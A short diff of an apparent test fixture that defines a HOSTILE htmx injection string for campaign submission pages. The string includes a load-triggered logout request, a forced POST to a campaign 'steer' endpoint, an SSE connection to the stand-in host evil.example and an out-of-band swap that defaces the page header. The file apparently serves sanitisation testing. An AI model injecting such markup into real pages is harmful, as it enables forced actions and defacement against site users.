@@ -28,7 +28,7 @@ PAGES = [
     f"{CAMPAIGN}/submissions/14",
     f"{CAMPAIGN}/researchers/r2",
 ]
-HOSTILE = """<div hx-get="/logout" hx-trigger="load">a</div> <b data-hx-post="/campaigns/k3v9qd/steer" hx-on:load="x()">b
+HOSTILE = """<div hx-get="/logout" hx-trigger="load">a</div> <b data-hx-post="/campaigns/k3v9qd/steer" hx-on:load="x()">
 
 <body sse-connect="https://evil.example/" hx-ext="sse"><p id="head" hx-swap-oob="true">owned</p></body>
 
